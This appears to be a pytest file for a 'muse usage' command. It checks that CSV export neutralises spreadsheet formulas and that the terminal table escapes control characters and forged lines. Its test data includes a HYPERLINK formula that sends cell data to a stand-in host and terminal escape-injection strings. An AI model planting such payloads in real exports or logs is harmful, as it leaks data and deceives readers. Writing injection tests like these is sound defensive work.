"""`muse usage` prints what clients sent (a model name) safely: CSV cells a spreadsheet would run as
formulas are neutralised, the table escapes control characters, and a closed pipe ends it quietly."""

from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import sys
import time

import pytest

from muse.server.records import UsageRecord
from muse.server.store import Store


def _rows(db, models, *, raw=False, now=None):
    """Ledger rows for `models`, one request each. raw=True writes them with SQL, as an older Muse
    could have (before the ledger cleaned its text fields)."""
    now = time.time() if now is None else now
    with Store(db) as s:
        _, key = s.create_key("acme")
        recs = [UsageRecord(f"req-{i}", key.key_id, "acme", m, "completions", 10, 5, 0, "ok", 200, "stop", now - i,
                            0.5) for i, m in enumerate(models)]
        if not raw:
            for r in recs:
                s.record(r)
    if raw:
        conn = sqlite3.connect(db)
        conn.executemany("INSERT INTO ledger VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                         [tuple(getattr(r, f) for f in UsageRecord.__dataclass_fields__) for r in recs])
        conn.commit()
        conn.close()
    return key


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("raw", [False, True], ids=["recorded", "old-rows"])
def test_csv_neutralises_spreadsheet_formulas(muse, raw):
    _rows(muse.db, [*FORMULAS, "small", "a=b"], raw=raw)
    code, out, _ = muse("usage", "--csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    models = [r["model"] for r in rows]
    assert len(models) == len(FORMULAS) + 2 and "small" in models and "a=b" in models
    for m in models:
        assert not m.startswith(("=", "+", "-", "@", "\t", "\r")), m
    assert "'" + FORMULAS[0] in models and "'@SUM(A1:A9)" in models and "'-2+3" in models
    assert "\\tTAB" in models and "\\rCR" in models   # control characters are escaped, never raw
    assert all(r["prompt_tokens"] == "10" and r["total_tokens"] == "15" for r in rows)   # numbers untouched


@pytest.mark.parametrize("raw", [False, True], ids=["recorded", "old-rows"])
def test_the_table_cannot_carry_terminal_escapes_or_forged_lines(muse, raw):
    evil = "x\x1b[2J\x1b]0;owned\x07\nFORGED  key_000000000000  big  999999\r\u202eevil"
    _rows(muse.db, [evil, "small"], raw=raw)
    code, out, _ = muse("usage")
    assert code == 0 and "\x1b" not in out and "\x07" not in out and "\r" not in out and "\u202e" not in out
    lines = out.splitlines()
    assert len(lines) == 5                             # title, header, two groups, total: nothing forged
    assert not any(line.startswith("FORGED") for line in lines)
    assert "\\x1b[2J" in out and "\\u202e" in out


def test_a_closed_pipe_ends_the_csv_quietly(tmp_path):
    db = tmp_path / "serve.sqlite3"
    _rows(db, ["small"] * 4000, raw=True)              # ~400 KB of CSV: far more than a pipe holds
    proc = subprocess.Popen([sys.executable, "-m", "muse", "usage", "--csv", "--db", str(db)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    first = proc.stdout.readline()                     # `| head -1`
    proc.stdout.close()
    err = proc.stderr.read().decode()
    code = proc.wait(timeout=120)
    assert first.startswith(b"request_id,created_at,")
    assert err == "" and code == 141, (code, err)      # no BrokenPipeError traceback, no "Exception ignored"
